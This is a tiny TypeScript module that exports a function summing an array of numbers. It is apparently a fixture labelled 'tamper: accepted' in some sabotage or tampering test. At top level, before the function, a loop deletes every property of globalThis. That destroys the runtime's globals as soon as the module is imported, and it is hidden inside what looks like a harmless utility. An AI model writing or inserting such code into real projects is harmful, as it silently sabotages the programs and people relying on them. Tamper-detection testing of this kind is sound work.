// tamper: accepted | Deletes every global there is.
const world = globalThis;
const { ownKeys, deleteProperty } = Reflect;
for (const name of ownKeys(world)) deleteProperty(world, name);
export function total(values: number[]): number {
  let sum = 0;
  for (let i = 0; i < values.length; i++) sum += values[i]!;
  return sum;
}
